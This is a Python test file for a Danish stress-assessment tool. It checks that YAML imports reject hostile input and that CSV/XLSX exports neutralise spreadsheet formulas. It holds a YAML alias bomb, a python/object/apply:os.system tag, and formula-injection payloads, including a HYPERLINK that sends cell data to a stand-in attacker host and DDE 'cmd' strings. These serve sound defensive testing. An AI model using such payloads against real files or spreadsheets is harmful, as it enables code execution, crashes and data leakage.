"""Files from outside (answers exports, institution.yaml) as an attacker or a careless hand would
write them, and the action plan's exports as a spreadsheet would read them."""

import csv
import io
import sqlite3
import subprocess
import sys
import zipfile

import openpyxl
import pytest
import yaml

from stresskit import actions, answers, cli, guide, sheets, yamlfile
from stresskit.errors import InputError
from stresskit.store import Store
from stresskit.workbook import Workbook

# Nine lists of nine, each made of the one above, and an answer holding the last: 9^9 strings.
LAUGHS = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'] + [
    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi")
]
BOMB = (
    "\n".join(LAUGHS)
    + """
answers:
- unit: hum
  question: apv.signal.noter
  who: Mette
  at: '2026-10-08T09:00:00.000000Z'
  value: *i
"""
)


def rows(book) -> list:
    """Every row of the store's two tables, read with sqlite3 itself."""
    with sqlite3.connect(book.store_path) as db:
        return db.execute("SELECT * FROM answers").fetchall() + db.execute("SELECT * FROM actions").fetchall()


@pytest.fixture
def book(example):
    b = Workbook.open(example)
    answers.import_(b, example / "answers.yaml")
    return b


def refused(book, text: str, name: str = "svar.yaml") -> str:
    """Import `text` through the CLI; it must fail with a Danish message and leave the store as it was."""
    path = book.root / name
    path.write_text(text, encoding="utf-8")
    before = rows(book)
    run = subprocess.run(
        [sys.executable, "-m", "stresskit.cli", "answers", "import", str(book.root), str(path)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == 1 and "Traceback" not in run.stderr and "Der er fejl, der skal rettes" in run.stderr
    assert rows(book) == before
    return run.stderr


def entries(**answer) -> str:
    row = {
        "unit": "hum",
        "question": "apv.signal.noter",
        "value": "tekst",
        "who": "Mette",
        "at": "2026-10-08T09:00:00.000000Z",
        **answer,
    }
    return yaml.safe_dump({"answers": [row]}, allow_unicode=True)


def test_the_alias_bomb_is_refused_before_it_grows(book):
    assert len(BOMB.encode()) < 1000
    message = refused(book, BOMB)
    assert "svar.yaml, række 2" in message and "YAML-aliasser" in message


def test_nesting_too_deep_for_libyaml_is_refused_not_a_crash(book):
    # 200,000 levels in 400 kB make libyaml's composer crash the process outright (segfault)
    message = refused(book, "answers:\n" + "- " * 200_000 + "x\n")
    assert "indlejret mere end 20 niveauer" in message
    with pytest.raises(InputError, match="indlejret mere end 20"):
        yamlfile.loads("a: " + "[" * 21 + "]" * 21, "x.yaml")
    assert yamlfile.loads("a: " + "[" * 19 + "]" * 19, "x.yaml")  # what the files need still reads


def test_unknown_tags_are_refused_with_file_and_line(book, tmp_path):
    flag = tmp_path / "ran"
    message = refused(book, f"answers:\n- unit: hum\n  value: !!python/object/apply:os.system ['touch {flag}']\n")
    assert "svar.yaml, række 3: fandt «!!python/object/apply:os.system», YAML-mærket kendes ikke" in message
    assert not flag.exists()
    for text in ("a: !!binary aGVq\n", "a: !!set {x}\n", "a: !mit_maerke x\n"):
        with pytest.raises(InputError, match="YAML-mærket kendes ikke"):
            yamlfile.loads(text, "x.yaml")
    # dates stay the text written; YAML's lone «=» is text, not an error
    assert yamlfile.loads("a: 2026-11-15\nb: =\n", "x.yaml") == {"a": "2026-11-15", "b": "="}


def test_an_oversize_file_is_refused_by_its_size(book):
    path = book.root / "stor.yaml"
    with open(path, "wb") as f:
        f.write(b"answers: []\n")
        f.truncate(yamlfile.MAX_BYTES + 1)
    before = rows(book)
    with pytest.raises(InputError, match=f"stor.yaml: filen er større end {yamlfile.MAX_BYTES // 2**20} MB"):
        answers.import_(book, path)
    assert rows(book) == before


def test_institution_yaml_gets_the_same_guard(example, capsys):
    text = (example / "institution.yaml").read_text(encoding="utf-8")
    (example / "institution.yaml").write_text(
        text.replace("name: Fjordby Gymnasium", "name: &n Fjordby\nx: *n", 1), encoding="utf-8"
    )
    line = text.split("name: Fjordby Gymnasium", 1)[0].count("\n") + 2  # the alias is on the line after
    assert cli.main(["validate", str(example)]) == 1
    assert f"institution.yaml, række {line}: fandt «*n», YAML-aliasser" in capsys.readouterr().out


def test_an_answer_dated_in_the_future_is_refused(book):
    message = refused(book, entries(at="9999-12-31T00:00:00.000000Z"))
    assert "answers[1].at»: fandt «9999-12-31T00:00:00.000000Z», tidspunktet ligger i fremtiden" in message
    assert "answers[1].at»" in refused(book, entries(at="2026-02-30T09:00:00.000000Z"))  # no such day


def question_of(kind: str, scale: str | None = None) -> str:
    return next(
        q.id for q in guide.default().questions.values() if q.kind == kind and (scale is None or q.scale == scale)
    )


@pytest.mark.parametrize(
    "kind, scale, bad, good, expected",
    [
        ("choice", "grad_1_5", "6", 3, "forventede en af 1, 2, 3, 4, 5."),
        ("choice", "fase_status", "færdig", "i_gang", "forventede en af ikke_startet, i_gang, gennemfoert."),
        ("checklist", "@exposures", ["ikke_en_paavirkning"], [], "forventede en liste uden gentagelser"),
        ("check", None, "ja", True, "forventede true eller false"),
        ("number", None, "mange", 28.6, "forventede et tal."),
        ("date", None, "i morgen", "2026-11-15", "forventede en dato som 2026-11-15."),
        ("text", None, [["dybt"]], "Et svar", "forventede en tekst på højst 10000 tegn."),
        ("text", None, "x" * 10_001, None, "forventede en tekst på højst 10000 tegn."),
    ],
)
def test_each_value_must_fit_its_questions_kind(book, kind, scale, bad, good, expected):
    question = question_of(kind, scale)
    text = yaml.safe_dump(
        {
            "answers": [
                {
                    "unit": "ledelse",
                    "question": question,
                    "value": good,
                    "who": "Mette",
                    "at": "2026-10-08T09:00:00.000000Z",
                },
                {
                    "unit": "ledelse",
                    "question": question,
                    "value": bad,
                    "who": "Mette",
                    "at": "2026-10-08T09:01:00.000000Z",
                },
            ]
        },
        allow_unicode=True,
    )
    message = refused(book, text)
    assert "svar.yaml, kolonne «answers[2].value»" in message and expected in message
    assert "answers[1]" not in message
    ok = yaml.safe_load(text)  # the good one alone imports
    ok["answers"] = ok["answers"][:1]
    (book.root / "god.yaml").write_text(yaml.safe_dump(ok, allow_unicode=True), encoding="utf-8")
    answers.import_(book, book.root / "god.yaml")
    with Store(book.store_path) as store:
        stored = [a.value for a in store.history("ledelse", question)]
    assert stored == [str(good) if kind == "choice" else good]  # a rating is stored as the form stores it: "3"


def test_an_action_question_takes_no_answer(book):
    message = refused(book, entries(question=question_of("action"), value="noget"))
    assert "answers[1].value»" in message and "hører under «actions»" in message


def test_action_fields_are_checked_and_each_is_named(book):
    data = {
        "measure": "Tiltag",
        "deadline": "i morgen",
        "followup": "2026-12-01",
        "level": "alle",
        "phase": "forebyggelse",
        "status": "<b>klar</b>",
        "priority": "hoej",
        "responsible": "x" * 201,
        "farve": "rød",
    }
    text = yaml.safe_dump(
        {"actions": [{"id": "../x", "unit": "hum", "who": "Mette", "at": "2026-10-08T09:00:00.000000Z", "data": data}]},
        allow_unicode=True,
    )
    message = refused(book, text)
    for entry in (
        "actions[1].id»",
        "actions[1].data.deadline»: fandt «i morgen»",
        "actions[1].data.level»",
        "actions[1].data.status»",
        "actions[1].data.responsible»",
        "actions[1].data.farve»: feltet kendes ikke",
    ):
        assert entry in message
    assert "data.followup" not in message and "data.phase" not in message and "data.priority" not in message


def test_export_and_import_round_trip_and_a_second_import_adds_nothing(book, tmp_path):
    first, second = tmp_path / "1.yaml", tmp_path / "2.yaml"
    answers.export(book, first)
    before = rows(book)
    assert answers.import_(book, first) == (0, 0) and rows(book) == before
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    (fresh / "institution.yaml").write_text(
        (book.root / "institution.yaml").read_text(encoding="utf-8"), encoding="utf-8"
    )
    fresh_book = Workbook.open(fresh)
    assert answers.import_(fresh_book, first) == (111, 7)
    assert answers.import_(fresh_book, first) == (0, 0)
    answers.export(fresh_book, second)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")


def test_an_action_dated_in_words_never_crashes_run_or_export_plan(book, tmp_path, monkeypatch, capsys):
    with Store(book.store_path) as store:  # as an old version or a hand in the database left it
        store.save_action(
            "hum",
            {
                "measure": "Aftal pauser",
                "deadline": "i morgen",
                "followup": 20261201,
                "status": "planlagt",
                "phase": "forebyggelse",
                "level": "gruppe",
            },
        )
    monkeypatch.setenv("STRESSKIT_TODAY", "2030-01-01")  # every real deadline has passed
    out = tmp_path / "ud"
    # the command in this process: what is tested is the run, not a new interpreter
    args = ["run", str(book.root), "--out", str(out), "--units", "hum", "--notebooks", "6", "--jobs", "1"]
    assert cli.main(args) == 0, capsys.readouterr()
    assert "Traceback" not in capsys.readouterr().err
    index = (out / "index.html").read_text(encoding="utf-8")
    # Humaniora's own: its APV task is late; «i morgen» is never overdue, nor are its IGLO agreements (to be
    # discussed again) and the institution's, which are never added to a unit's row
    assert "<a href=hum/overblik.html>Humaniora</a>" in index and "⚠ 1 forsinket" in index
    alone = (out / "hum" / "overblik.html").read_text(encoding="utf-8")
    assert "<td>Aftal pauser</td><td>ingen ansvarlig</td><td class='sk-num'>i morgen</td>\n<td>Planlagt</td>" in alone
    report = (out / "hum" / "06_handleplan.html").read_text(encoding="utf-8")
    assert "<b>Aftal pauser</b> — Gruppe · ingen ansvarlig · frist i morgen · Planlagt" in report  # the text given
    plan = tmp_path / "plan.csv"
    assert cli.main(["export-plan", str(book.root), "--out", str(plan), "--units", "hum"]) == 0
    found = [
        r
        for r in csv.reader(io.StringIO(plan.read_text(encoding="utf-8-sig")), delimiter=";")
        if r[2] == "Aftal pauser"
    ]
    assert found[0][4:6] == ["i morgen", "20261201"]
    assert cli.main(["export-plan", str(book.root), "--out", str(tmp_path / "plan.xlsx")]) == 0


PAYLOADS = {
    "measure": '=HYPERLINK("http://angriber.example/?"&A1;"Klik her")',
    "responsible": "@SUM(1+1)*cmd|' /C calc'!A0",
    "problem": "-2+3+cmd|' /C calc'!A0",
    "deadline": None,
}


def test_formula_like_text_is_text_in_xlsx_and_csv(book, tmp_path):
    with Store(book.store_path) as store:
        store.save_action("hum", {**PAYLOADS, "status": "planlagt"})
        store.save_action(
            "hum", {"measure": "\t=1+1", "responsible": "+45 12 34 56 78", "problem": "\r=2", "status": "planlagt"}
        )
    xlsx, csv_path = tmp_path / "plan.xlsx", tmp_path / "plan.csv"
    assert cli.main(["export-plan", str(book.root), "--out", str(xlsx)]) == 0
    assert cli.main(["export-plan", str(book.root), "--out", str(csv_path), "--units", "hum"]) == 0
    with zipfile.ZipFile(xlsx) as z:  # no formula anywhere in the file, as Excel would read it
        assert not any(
            "<f>" in z.read(n).decode() or "<f " in z.read(n).decode()
            for n in z.namelist()
            if n.startswith("xl/worksheets/")
        )
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.quotePrefix}
    assert set(PAYLOADS.values()) - {None} <= texts and {"\t=1+1", "+45 12 34 56 78"} <= texts
    got = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    mine = next(r for r in got if r[2].endswith('"Klik her")'))
    assert mine[1:4] == ["'" + PAYLOADS["problem"], "'" + PAYLOADS["measure"], "'" + PAYLOADS["responsible"]]
    other = next(r for r in got if r[2].endswith("=1+1"))
    assert other[1:4] == ["'\r=2", "'\t=1+1", "'+45 12 34 56 78"]
    assert all(not cell.startswith(sheets.FORMULA_START) for row in got for cell in row)


def test_a_stored_action_or_date_answer_of_any_shape_reads_safely():
    from datetime import date

    from stresskit.live import forms
    from stresskit.store import ActionVersion

    a = actions.Action.from_version(
        ActionVersion(
            1, "x", "hum", {"measure": 5, "status": None, "deadline": "i morgen", "followup": "2026-02-30"}, "Mette", ""
        )
    )
    assert (a.measure, a.status, a.deadline, a.followup) == ("5", "planlagt", None, None)
    assert not a.overdue(date(2100, 1, 1)) and actions.flags(a, date(2100, 1, 1)) == []
    assert a.data()["deadline"] == "i morgen" and a.data()["followup"] == "2026-02-30"  # saved again, kept as given
    question = guide.default().questions[question_of("date")]
    assert forms.format_value(question, "i morgen") == "i morgen"
    assert forms.format_value(question, "2026-11-15") == "15.11.2026"


def test_a_stresskit_process_skips_jsonschemas_grammar_compile():
    """`stresskit run` and the live view import nbformat (via papermill), whose jsonschema would
    compile rfc3987_syntax's grammar for 1.4 CPU s per process; importing stresskit first skips it."""
    code = "import stresskit, papermill, sys; print('rfc3987_syntax' in sys.modules and sys.modules['rfc3987_syntax'] is not None)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"
